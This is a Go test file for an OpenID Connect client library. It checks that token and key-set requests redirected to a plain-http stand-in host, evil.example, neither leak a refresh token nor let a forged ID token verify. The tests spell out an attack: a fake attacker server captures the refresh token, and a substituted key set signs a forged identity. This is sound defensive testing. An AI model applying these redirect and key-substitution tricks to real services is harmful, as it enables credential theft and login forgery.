package auth

import (
	"context"
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	jose "github.com/go-jose/go-jose/v4"
)

// A lying provider: the provider's token endpoint answers 307 with a Location on
// plain http to a host that is not the loopback. Go's client follows it
// and re-POSTs the form (refresh_token, client_id) in clear text there,
// although latch refuses such a URL when discovery names it (checkURL).
func TestTokenRequestIsNeverRedirectedElsewhere(t *testing.T) {
	var stolen atomic.Value
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		stolen.Store(r.PostForm.Get("refresh_token"))
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"error":"invalid_grant"}`))
	}))
	defer evil.Close()

	mux := http.NewServeMux()
	op := httptest.NewServer(mux)
	defer op.Close()
	mux.HandleFunc("/.well-known/openid-configuration", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{
			"issuer": op.URL, "authorization_endpoint": op.URL + "/auth",
			"token_endpoint": op.URL + "/token", "jwks_uri": op.URL + "/jwks",
		})
	})
	mux.HandleFunc("/token", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://evil.example/steal", http.StatusTemporaryRedirect)
	})

	p, err := Discover(t.Context(), &Config{Issuer: op.URL, ClientID: "cli", HTTPClient: evilResolver(evil)})
	if err != nil {
		t.Fatal(err)
	}
	_, err = p.Refresh(t.Context(), TokenRequest{RefreshToken: "RT-SECRET"})
	if got, _ := stolen.Load().(string); got == "RT-SECRET" {
		t.Fatalf("the refresh token was POSTed in clear text to http://evil.example (a non-loopback plain-http URL the discovery check refuses); Refresh said: %v", err)
	}
}

// A lying provider: the provider's jwks_uri answers 302 to plain http on a host that
// is not the loopback. The key set is fetched there in clear text, so
// whoever answers on that path (a network attacker) picks the keys, and an
// ID token they sign verifies.
func TestKeySetRedirectToPlainHTTPIsRefused(t *testing.T) {
	forger := newFakeOP(t) // only its key and signer are used
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		set := jose.JSONWebKeySet{Keys: []jose.JSONWebKey{{Key: &forger.key.PublicKey, KeyID: "evil", Algorithm: "ES384", Use: "sig"}}}
		json.NewEncoder(w).Encode(set)
	}))
	defer evil.Close()
	mux := http.NewServeMux()
	op := httptest.NewServer(mux)
	defer op.Close()
	mux.HandleFunc("/.well-known/openid-configuration", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{
			"issuer": op.URL, "authorization_endpoint": op.URL + "/auth", "token_endpoint": op.URL + "/token",
			"jwks_uri": op.URL + "/jwks", "id_token_signing_alg_values_supported": []string{"ES384"},
		})
	})
	mux.HandleFunc("/jwks", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://evil.example/jwks", http.StatusFound)
	})
	p, err := Discover(t.Context(), &Config{Issuer: op.URL, ClientID: "cli", HTTPClient: evilResolver(evil)})
	if err != nil {
		t.Fatal(err)
	}
	claims := forger.claims("")
	claims["iss"], claims["sub"] = op.URL, "victim"
	delete(claims, "nonce")
	forged := forger.sign(claims, jose.ES384, forger.key, "evil")
	if id, err := p.VerifyIDToken(t.Context(), forged, VerifyOptions{}); err == nil {
		t.Fatalf("an ID token signed with keys fetched over plain http from evil.example verified: sub %q", id.Subject)
	}
}

// evilResolver is a client on which evil.example resolves to the
// attacker's server and everything else as usual.
func evilResolver(evil *httptest.Server) *http.Client {
	evilAddr := strings.TrimPrefix(evil.URL, "http://")
	return &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
		if strings.HasPrefix(addr, "evil.example:") {
			addr = evilAddr
		}
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}}}
}
